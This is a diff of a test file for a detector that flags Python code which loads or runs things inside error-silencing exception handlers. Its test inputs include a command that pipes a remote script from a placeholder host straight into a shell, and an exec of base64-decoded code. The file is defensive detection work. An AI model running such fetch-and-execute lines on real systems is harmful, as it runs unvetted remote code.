@@ -46,6 +46,7 @@ describe('silenced-loader', () => {
       'os.system("curl https://example.com/x.sh | sh")',
       'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad"])',
       'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
+      'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad==1.3.0"])',
     ]) {
       assert.deepEqual(marked('python', tried('except Exception: pass', loader)), ['except Exception'], loader);
     }
@@ -82,6 +83,7 @@ describe('silenced-loader', () => {
     for (const handler of [
       'except Exception as e:\n    print(e)',
       'except Exception:\n    raise',
+      'except Exception:\n    return False',
       'except ImportError:\n    pass',
       'except requests.RequestException:\n    pass',
       'except (OSError, ValueError):\n    pass',
